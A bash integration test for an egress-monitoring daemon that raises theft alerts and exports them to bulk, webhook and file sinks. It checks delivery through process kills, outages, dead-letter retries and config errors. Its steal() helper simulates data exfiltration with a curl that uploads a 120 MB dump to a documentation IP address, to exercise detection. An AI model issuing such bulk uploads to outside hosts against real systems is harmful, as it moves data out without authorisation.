#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The whole way: a theft in a network namespace, the alert in the spool, the exporter as
# another user, receivers on loopback. Whatever the daemon committed arrives, though
# daemon and exporter are killed. Needs root.
set -u
cd "$(dirname "$0")/../.." || exit 1
. tests/lib/system.sh

if [ "$(id -u)" != 0 ]; then
	skip siem-daemon "needs root"
	exit 0
fi
make_world || { not_ok world "network namespaces"; finish; }

cat >"$tmp/receive.py" <<'P'
# An _bulk stand-in and a webhook, ids in files as they come; the webhook is down while
# the file "down" exists.
import os, sys, threading, time
sys.path.insert(0, os.path.join(os.getcwd(), "tests", "lib"))
from receivers import Bulk, Webhook
tmp = sys.argv[1]
b = Bulk()
w = Webhook(secret="s3cret", fault=lambda n: (503, {}, "") if os.path.exists(tmp + "/down") else
            (400, {}, "no such field") if os.path.exists(tmp + "/refuse") else None)
print(b.port, w.port, flush=True)
while True:
    for name, r in (("bulk", b), ("hook", w)):
        with open(f"{tmp}/{name}.new", "w") as f:
            f.write("\n".join(r.ids) + "\n")
        os.rename(f"{tmp}/{name}.new", f"{tmp}/{name}.ids")
    with open(tmp + "/docs.new", "w") as f:
        import json
        f.write("".join(json.dumps(d) + "\n" for d in b.documents))
    os.rename(tmp + "/docs.new", tmp + "/docs.jsonl")
    time.sleep(0.1)
P
python3 "$tmp/receive.py" "$tmp" >"$tmp/ports" & pids+=($!)
wait_for 10 test -s "$tmp/ports"
read -r bulk hook <"$tmp/ports"
metrics=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
echo s3cret >"$tmp/secret"
chmod 600 "$tmp/secret"
cat >"$tmp/egressd.yaml" <<Y
alert:
  update_min: 0s
export:
  metrics_listen: 127.0.0.1:$metrics
  heartbeat: 2s
sinks:
  - name: bulk
    type: elastic
    url: http://127.0.0.1:$bulk
  - name: hook
    type: webhook
    url: http://127.0.0.1:$hook/
    secret_file: $tmp/secret
    heartbeat: false
  - name: file
    type: file
    path: $tmp/out/events.log
    format: ocsf
Y
chmod 755 "$tmp"
if ! start_sensor -c "$tmp/egressd.yaml"; then
	not_ok starts "$(tail -5 "$tmp/log")"
	finish
fi
ok starts
exporter_pid() { pgrep -P "$sensor" -f egressd-export; }
wait_for 5 exporter_pid
exporter=$(exporter_pid)

# --- the child is confined -------------------------------------------------------
user=nobody
id egressd >/dev/null 2>&1 && user=egressd
expect exporter-user "$(stat -c %U "/proc/$exporter")" $user
expect exporter-capabilities "$(awk '/^Cap(Eff|Prm|Inh|Amb)/ { print $2 }' "/proc/$exporter/status" | sort -u)" 0000000000000000
expect exporter-seccomp "$(awk '/^Seccomp:/ { print $2 }' "/proc/$exporter/status")" 2
expect exporter-no-bpf "$(find "/proc/$exporter/fd" -lname '*bpf*' | wc -l)" 0
expect_match secret-not-in-argv "$(tr '\0' ' ' <"/proc/$exporter/cmdline")" '^egressd-export 3 4 $'
if grep -q s3cret "$tmp/log"; then not_ok secret-not-logged; else ok secret-not-logged; fi

cat >"$tmp/sink.py" <<'P'
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 9000)); s.listen(16)
def drain(c):
    while c.recv(1 << 16):
        pass
print("ready", flush=True)
while True:
    c, _ = s.accept()
    threading.Thread(target=drain, args=(c,), daemon=True).start()
P
in_out python3 "$tmp/sink.py" >"$tmp/sink.out" & pids+=($!)
wait_for 10 grep -q ready "$tmp/sink.out"
head -c 120000000 /dev/zero >"$tmp/dump"
# Every second of a theft is an event (update_min below).
steal() { in_db curl -sS -m 4 --data-binary "@$tmp/dump" http://203.0.113.7:9000/ >/dev/null 2>&1; }
committed() { ctl alerts --json | json - "'\n'.join(r['event.id'] for r in rows)"; }
missing_in() { # FILE: how many committed ids are not there
	comm -23 <(committed | sort -u) <(sort -u "$tmp/$1.ids") | grep -c .
}
arrived() { [ "$(committed | grep -c .)" -gt "$2" ] && [ "$(missing_in "$1")" = 0 ]; }

# --- a theft arrives everywhere ---------------------------------------------------------
steal
if wait_for 20 arrived bulk 0; then ok theft-in-bulk; else not_ok theft-in-bulk "$(missing_in bulk) missing; $(ctl status --json | json - "rows[0]['sinks']")"; fi
if wait_for 10 arrived hook 0; then ok theft-in-webhook; else not_ok theft-in-webhook "$(missing_in hook) missing"; fi
wait_for 5 test -s "$tmp/out/events.log"
expect file-is-ocsf "$(json "$tmp/out/events.log" "{r['class_uid'] for r in rows} <= {2004, 6002} and any(r['class_uid'] == 2004 for r in rows)")" True
if wait_for 10 grep -q heartbeat "$tmp/bulk.ids"; then ok heartbeat; else not_ok heartbeat; fi
if grep -q heartbeat "$tmp/hook.ids"; then not_ok heartbeat-can-be-off; else ok heartbeat-can-be-off; fi
for v in "${EGRESS_VALIDATE_DIR:-}" "$(dirname "$PWD")"/*/validate; do
	[ -f "$v/ecs.py" ] && validate=$v && break
done
if [ -n "${validate:-}" ]; then
	expect sent-ecs-is-valid "$(python3 "$validate/ecs.py" "$tmp/docs.jsonl" >"$tmp/valid"; echo $?)" 0
	expect sent-ocsf-is-valid "$(python3 "$validate/ocsf.py" "$tmp/out/events.log" >"$tmp/valid"; echo $?)" 0
else
	skip sent-documents-are-valid "no schema validator; set EGRESS_VALIDATE_DIR"
fi
expect status-names-sinks "$(ctl status --json | json - "[(s['sink.name'], s['sink.ready'], s['sink.behind']) for s in rows[0]['sinks']]")" \
	"[('bulk', True, 0), ('hook', True, 0), ('file', True, 0)]"
expect export-prints-the-same "$(ctl export --format ecs | json - "sorted({r['event.id'] for r in rows})")" \
	"$(json "$tmp/docs.jsonl" "sorted({r['event.id'] for r in rows if r['event.kind'] == 'alert'})")"

# --- metrics ---------------------------------------------------------------------------
scrape() { curl -sS --max-time 5 "$@" "http://127.0.0.1:$metrics/metrics"; }
shows_page() { scrape >"$tmp/metrics" && grep -q 'egressd_alerts_open{severity="page"} [1-9]' "$tmp/metrics"; }
if wait_for 15 shows_page; then ok metrics-alerts; else not_ok metrics-alerts; fi
expect_match metrics-sinks "$(cat "$tmp/metrics")" 'egressd_sink_acked_total\{sink="bulk"\} [1-9]'
if command -v promtool >/dev/null; then
	expect promtool-check-metrics "$(promtool check metrics <"$tmp/metrics" 2>&1; echo $?)" 0
else
	skip promtool-check-metrics "no promtool"
fi
expect_match openmetrics-ends "$(scrape -H 'Accept: application/openmetrics-text; version=1.0.0' | tail -1)" '^# EOF$'

# --- the exporter is killed, a receiver is down ------------------------------------------
touch "$tmp/down"
kill -9 "$exporter"
before=$(committed | grep -c .)
steal
respawned() { p=$(exporter_pid) && [ "$p" != "$exporter" ]; }
if wait_for 15 respawned; then ok exporter-starts-again; else not_ok exporter-starts-again "$(tail -3 "$tmp/log")"; fi
expect exporter-user-again "$(stat -c %U "/proc/$(exporter_pid)")" $user
if wait_for 20 arrived bulk "$before"; then ok killed-exporter-loses-nothing; else not_ok killed-exporter-loses-nothing "$(missing_in bulk)"; fi
tick=$(ctl status --json | json - "rows[0]['ticks']")
sleep 2.2
expect down-receiver-delays-no-tick "$(ctl status --json | json - "rows[0]['ticks'] >= $tick + 2")" True

# --- the daemon is killed while a receiver is down ------------------------------------------
stop_sensor KILL
start_sensor -c "$tmp/egressd.yaml"
rm "$tmp/down"
if wait_for 40 arrived hook "$before"; then ok killed-daemon-loses-nothing; else not_ok killed-daemon-loses-nothing "$(missing_in hook) missing; $(tail -3 "$tmp/log")"; fi
expect no-orphan "$(pgrep -c -f "^egressd-export 3 4" -P 1 -P "$sensor")" 1

# --- what was refused for good goes out again when told ---------------------------------------
dead() { ctl spool ls --json | json - "max(r.get('sink.dead_letters', 0) for r in rows if r.get('sink.name') == 'hook')"; }
touch "$tmp/refuse"
steal
refused() { [ "$(dead)" -gt 0 ]; }
if wait_for 20 refused; then ok refused-is-a-dead-letter; else not_ok refused-is-a-dead-letter "$(ctl spool ls)"; fi
expect_match dead-letter-has-its-reason "$(ctl spool ls --dead)" 'hook .*HTTP 400: no such field'
rm "$tmp/refuse"
copies() { sort "$tmp/bulk.ids" | grep -v heartbeat | uniq -d | grep -c .; }
twice=$(copies)
expect_match spool-retry "$(ctl spool retry --sink hook)" '^[1-9][0-9]* dead letters go'
if wait_for 20 arrived hook 0; then ok dead-letters-arrive; else not_ok dead-letters-arrive "$(missing_in hook) missing"; fi
expect dead-letters-are-gone "$(dead)" 0
expect others-do-not-get-them-again "$(copies)" "$twice"
expect spool-retry-unknown-sink "$(ctl spool retry --sink nobody >/dev/null 2>&1; echo $?)" 2
expect fsck-beside-a-daemon "$("$BUILD/egressctl" spool fsck "$tmp/state" >/dev/null; echo $?)" 0
expect fsck-repairs-no-live-spool "$("$BUILD/egressctl" spool fsck --repair "$tmp/state" >/dev/null 2>&1; echo $?)" 1

# --- a new secret and list by SIGHUP ---------------------------------------------------------
sed -i 's/format: ocsf/format: cef/' "$tmp/egressd.yaml"
kill -HUP "$sensor"
steal
if wait_for 20 grep -q '^CEF:0' "$tmp/out/events.log"; then ok sighup-reloads-sinks; else not_ok sighup-reloads-sinks "$(tail -3 "$tmp/log")"; fi
stop_sensor TERM
expect fsck-clean-after-all "$("$BUILD/egressctl" spool fsck --json "$tmp/state" | json - "sum(r['spool.lost'] for r in rows), {r['spool.state'] for r in rows} <= {'whole', 'empty', 'torn'}")" "(0, True)"

# --- bad lists ---------------------------------------------------------------------------------
bad() { # NAME PATTERN, the list on stdin
	cat >"$tmp/bad.yaml"
	"$BUILD/egressd" -c "$tmp/bad.yaml" --check >"$tmp/err" 2>&1
	expect "$1-status" $? 2
	expect_match "$1-says-where" "$(cat "$tmp/err")" "$2"
}
printf 'sinks:\n  - name: a\n    type: carrier-pigeon\n' | bad sink-type 'bad.yaml:3: type: "carrier-pigeon" is none of'
printf 'sinks:\n  - name: a\n    typo: file\n' | bad sink-key 'bad.yaml:3: a sink has no key "typo"'
printf 'sinks:\n  - name: a\n    type: elastic\n' | bad sink-needs 'bad.yaml:2: sink a: elastic needs url'
printf 'sinks:\n  - name: a\n    path: /x\n  - name: a\n    path: /y\n' | bad sink-twice 'bad.yaml:4: two sinks are named a'
printf 'sinks: yes\n' | bad sink-list 'bad.yaml:1: sinks is a list'
printf 'sinks:\n  - file\n' | bad sink-mapping 'bad.yaml:2: sinks: each item is a mapping'
finish
